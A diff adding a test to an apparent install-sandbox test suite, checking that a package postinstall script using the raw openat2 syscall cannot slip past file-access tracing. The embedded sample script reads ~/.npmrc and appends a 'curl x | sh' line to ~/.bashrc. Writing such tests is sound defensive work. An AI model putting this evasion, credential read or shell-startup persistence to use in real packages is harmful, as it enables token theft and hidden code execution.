@@ -183,3 +183,28 @@ def test_two_sandboxes_on_one_machine_never_share_a_uid() -> None:
     again, claim = sandbox._claim_uid()
     claim.close()
     assert again == first_uid  # released with the socket
+
+
+# A script that opens files with openat2 (Linux 5.6+; libc has no wrapper: a raw syscall from any native code or
+# from ctypes) reads the canary and writes outside its folder without an `openat` in the trace.
+OPENAT2 = r"""
+import ctypes, os, struct
+libc = ctypes.CDLL(None, use_errno=True)
+def openat2(path, flags):
+    buf = struct.pack("QQQ", flags, 0o644 if flags & os.O_CREAT else 0, 0)  # struct open_how {flags, mode, resolve}
+    return libc.syscall(437, -100, path.encode(), buf, len(buf))
+fd = openat2(os.path.expanduser("~/.npmrc"), os.O_RDONLY)
+print("openat2 read", len(os.read(fd, 4096)) if fd >= 0 else "errno %d" % ctypes.get_errno())
+fd = openat2(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+print("openat2 write", os.write(fd, b"curl x | sh\n") if fd >= 0 else "errno %d" % ctypes.get_errno())
+"""
+
+
+def test_a_file_opened_with_openat2_is_never_unobserved(tmp_path: Path) -> None:
+    tgz = pack(tmp_path, "openat2-demo", {"postinstall": "/usr/bin/python3 o.py"}, {"o.py": OPENAT2})
+    obs = sandbox.observe_install(tgz, "openat2-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0, obs.output
+    beh = profile_of(obs).packages["openat2-demo"]
+    # openat2 is refused (ENOSYS, as on a kernel without it: libc and libuv fall back to the traced openat)
+    assert "openat2 read errno 38" in obs.output and "openat2 write errno 38" in obs.output, obs.output
+    assert "/usr/bin/python3 o.py" in beh.items["processes"]
